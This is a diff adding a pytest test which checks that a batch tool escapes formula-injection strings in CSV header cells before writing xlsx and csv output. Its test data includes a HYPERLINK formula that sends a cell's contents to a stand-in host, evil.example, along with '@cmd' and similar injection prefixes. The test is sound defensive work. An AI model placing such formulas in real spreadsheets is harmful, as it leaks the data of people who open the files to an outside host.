@@ -167,3 +167,18 @@ def test_an_existing_output_survives_a_failed_run(tmp_path: Path, small_list: Pa
     table.close()
     assert target.read_text(encoding="utf-8") == "old"
     assert sorted(path.name for path in tmp_path.iterdir()) == ["list.csv", "r.csv"]
+
+
+def test_header_cells_are_neutralised_like_data(tmp_path: Path) -> None:
+    """A header is the list author's text too: no live formula in the xlsx, none in the csv."""
+    evil = ['=HYPERLINK("http://evil.example/?"&A2;"点我")', "@cmd", "+1", "-x"]
+    source = write_csv(tmp_path / "list.csv", [*HEADER, *evil],
+                       [[*ROWS[0][0], *(["v"] * len(evil))]])
+    result = run("batch", source, "-o", tmp_path / "r.xlsx", "-o", tmp_path / "r.csv")
+    assert result.exit_code == 1, result.stderr
+    expected = [*HEADER, *("'" + text for text in evil), *RESULT_HEADERS]
+    header = next(load_workbook(tmp_path / "r.xlsx")["审查结果"].iter_rows(max_row=1))
+    assert [cell.value for cell in header] == expected
+    assert {cell.data_type for cell in header} == {"s"}
+    rows = list(csv.reader((tmp_path / "r.csv").read_text("utf-8-sig").splitlines()))
+    assert rows[0] == expected
